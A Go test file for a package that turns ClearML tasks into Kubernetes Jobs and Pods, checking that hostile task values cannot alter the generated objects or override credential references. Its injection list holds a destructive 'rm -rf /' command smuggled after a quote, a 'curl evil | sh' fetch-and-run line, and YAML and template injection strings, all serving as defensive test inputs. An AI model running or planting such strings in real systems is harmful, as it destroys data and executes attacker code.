package podtemplate

import (
	"maps"
	"slices"
	"strings"
	"testing"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
)

const injectionConfig = `
namespace: clearml
clearml: {credentialsSecret: creds}
basePodTemplate:
  labels:
    go: "{{ .Task.Name }}"
    clearml: "${CLEARML_TASK.name}"
  annotations:
    go: "{{ .Task.Name }}"
    raw: "${CLEARML_TASK.name|raw}"
    hyperparam: "${CLEARML_TASK.hyperparams.p.v.value}"
  env:
    - {name: NAME, value: "${CLEARML_TASK.name}"}
  fileMounts:
    - {name: name.txt, folderPath: /etc/task, fileContent: "{{ .Task.Name }}"}
queues:
  queue1:
    queueSettings:
      customWorkerIdTemplate: "w-{task_name}"
`

// injections are task values that would change the object if any layer evaluated them again or
// pasted them into YAML or a shell script.
var injections = []string{
	"plain",
	"two\nlines",
	"{{ .Task.ID }}",
	`{{ env "HOME" }}`,
	"}}{{ .WorkerID }}{{",
	"${CLEARML_QUEUE_NAME}",
	"${CLEARML_TASK.id}",
	"{task_id}",
	"x: y\nmetadata:\n  name: evil\n  labels: {evil: yes}",
	"- a\n- b",
	"'; rm -rf / #",
	`"$(curl evil | sh)" ` + "`id`",
	"%s %v %!",
	"\x00\t\r\n",
	"ünïcödé ✓",
	"clearml-id-other",
	strings.Repeat("long ", 100),
}

func TestInjection(t *testing.T) {
	b := newBuilder(t, parseConfig(t, injectionConfig))
	for _, value := range injections {
		t.Run(value, func(t *testing.T) {
			in := input(task(`{}`))
			in.QueueID = "6d2f0e1c9b8a47d6a5c4b3e2f1d0c9b8"
			in.Task["name"] = value
			in.Task["hyperparams"] = map[string]any{"p": map[string]any{"v": map[string]any{"value": value}}}
			in.Task["container"] = map[string]any{
				"arguments":          "-e VALUE=" + shellQuote(value),
				"setup_shell_script": value,
			}
			obj, err := b.Build("queue1", in)
			if err != nil {
				t.Fatal(err)
			}
			job := obj.(*batchv1.Job)
			pod := job.Spec.Template
			oneLine := removeNewlines(value)
			for key, want := range map[string]string{
				"go":                 value,
				"raw":                value,
				"hyperparam":         oneLine,
				fileAnnotation + "0": value,
			} {
				if got := pod.Annotations[key]; got != want {
					t.Errorf("annotation %s = %q, want %q", key, got, want)
				}
			}
			for key, want := range map[string]string{"go": SanitizeLabelValue(value), "clearml": SanitizeLabelValue(oneLine)} {
				if got := pod.Labels[key]; got != want {
					t.Errorf("label %s = %q, want %q", key, got, want)
				}
			}
			if got, want := slices.Sorted(maps.Keys(pod.Labels)), []string{"clearml", LabelAgent, LabelQueue, LabelQueueName, LabelTaskID, "go"}; !slices.Equal(got, want) {
				t.Errorf("labels %v, want %v", got, want)
			}
			main := pod.Spec.Containers[0]
			env := map[string]string{}
			var names []string
			for _, e := range main.Env {
				env[e.Name] = e.Value
				names = append(names, e.Name)
			}
			wantNames := []string{"NAME", "VALUE", "CLEARML_WORKER_ID", "CLEARML_API_ACCESS_KEY", "CLEARML_API_SECRET_KEY", setupScriptEnv}
			if !slices.Equal(names, wantNames) {
				t.Errorf("env %v, want %v", names, wantNames)
			}
			// -e values are trimmed, as ClearML does.
			for name, want := range map[string]string{"NAME": oneLine, "VALUE": strings.TrimSpace(value), "CLEARML_WORKER_ID": "w-" + value, setupScriptEnv: value} {
				if env[name] != want {
					t.Errorf("env %s = %q, want %q", name, env[name], want)
				}
			}
			if job.Name != ObjectName("4f0c52a6e1b04c9e9c3c2b7d1e8a9f10") || len(pod.Spec.Containers) != 1 || len(pod.Spec.Volumes) != 1 {
				t.Errorf("object changed shape: name %s, %d containers, %d volumes", job.Name, len(pod.Spec.Containers), len(pod.Spec.Volumes))
			}
			if want := []string{"-c", bootstrapScript, "clearml-glue-bootstrap", "4f0c52a6e1b04c9e9c3c2b7d1e8a9f10"}; !slices.Equal(main.Args, want) {
				t.Errorf("bootstrap arguments changed: %q", main.Args)
			}
		})
	}
}

// shellQuote quotes s for a POSIX shell, as a user would in a task's container arguments.
func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestBuildChoices(t *testing.T) {
	const cfgText = `
namespace: clearml
defaultContainerImage: glue/default:1
imagePullSecrets: [pull, again]
clearml: {apiServerUrl: https://api, webServerUrl: https://web, credentialsSecret: creds}
basePodTemplate:
  env:
    - {name: CLEARML_API_HOST, value: https://internal-api}
    - {name: SHARED, value: template}
    - {name: CLEARML_API_ACCESS_KEY, value: from-template}
  podSpec:
    restartPolicy: OnFailure
    imagePullSecrets: [{name: again}]
queues:
  plain: {}
  custom:
    queueSettings: {defaultImage: queue/default:2, useImageEntrypoint: true}
    templateOverrides:
      container: {command: [/entrypoint.sh], args: [serve]}
`
	b := newBuilder(t, parseConfig(t, cfgText))
	build := func(queue, changes string) corev1.PodTemplateSpec {
		t.Helper()
		obj, err := b.Build(queue, Input{Task: task(changes)})
		if err != nil {
			t.Fatal(err)
		}
		return obj.(*batchv1.Job).Spec.Template
	}
	env := func(c corev1.Container) map[string]corev1.EnvVar {
		m := map[string]corev1.EnvVar{}
		for _, e := range c.Env {
			m[e.Name] = e
		}
		return m
	}

	t.Run("image: the task's, then the queue's default, then the glue's", func(t *testing.T) {
		for _, tc := range []struct{ queue, changes, want string }{
			{"custom", `{"container": {"image": " task/image:3 "}}`, "task/image:3"},
			{"custom", `{}`, "queue/default:2"},
			{"plain", `{"container": {"image": ""}}`, "glue/default:1"},
		} {
			if got := build(tc.queue, tc.changes).Spec.Containers[0].Image; got != tc.want {
				t.Errorf("queue %s, task %s: image %q, want %q", tc.queue, tc.changes, got, tc.want)
			}
		}
	})
	t.Run("env: template, then task arguments, then glue defaults; identity is the glue's", func(t *testing.T) {
		e := env(build("plain", `{"container": {"arguments": "-e SHARED=task -e CLEARML_API_SECRET_KEY=stolen"}}`).Spec.Containers[0])
		if e["SHARED"].Value != "task" {
			t.Errorf("SHARED = %q, want the task's", e["SHARED"].Value)
		}
		if e["CLEARML_API_HOST"].Value != "https://internal-api" || e["CLEARML_WEB_HOST"].Value != "https://web" {
			t.Errorf("hosts %q %q: the template's wins, the glue's fills in", e["CLEARML_API_HOST"].Value, e["CLEARML_WEB_HOST"].Value)
		}
		for _, name := range []string{"CLEARML_API_ACCESS_KEY", "CLEARML_API_SECRET_KEY"} {
			if e[name].Value != "" || e[name].ValueFrom == nil || e[name].ValueFrom.SecretKeyRef.Name != "creds" {
				t.Errorf("%s = %+v, want a reference to the credentials Secret", name, e[name])
			}
		}
	})
	t.Run("restart policy, pull secrets", func(t *testing.T) {
		pod := build("plain", `{}`)
		if pod.Spec.RestartPolicy != corev1.RestartPolicyNever {
			t.Errorf("restartPolicy %s", pod.Spec.RestartPolicy)
		}
		if got := pod.Spec.ImagePullSecrets; len(got) != 2 || got[0].Name != "again" || got[1].Name != "pull" {
			t.Errorf("imagePullSecrets %v, want [again pull]", got)
		}
	})
	t.Run("useImageEntrypoint keeps the template's command and sets the task id", func(t *testing.T) {
		c := build("custom", `{"container": {"setup_shell_script": "echo not run"}}`).Spec.Containers[0]
		if !slices.Equal(c.Command, []string{"/entrypoint.sh"}) || !slices.Equal(c.Args, []string{"serve"}) {
			t.Errorf("command %q args %q", c.Command, c.Args)
		}
		e := env(c)
		if e["CLEARML_TASK_ID"].Value != "4f0c52a6e1b04c9e9c3c2b7d1e8a9f10" {
			t.Errorf("CLEARML_TASK_ID = %q", e["CLEARML_TASK_ID"].Value)
		}
		if _, ok := e[setupScriptEnv]; ok {
			t.Error("the setup script is passed although nothing runs it")
		}
	})
	t.Run("Pod kind", func(t *testing.T) {
		cfg := parseConfig(t, cfgText)
		cfg.TaskKind = "Pod"
		obj, err := newBuilder(t, cfg).Build("plain", Input{Task: task(`{}`)})
		if err != nil {
			t.Fatal(err)
		}
		if pod, ok := obj.(*corev1.Pod); !ok || pod.Kind != "Pod" || pod.APIVersion != "v1" || pod.Namespace != "clearml" {
			t.Errorf("got %T %+v", obj, obj)
		}
	})
}
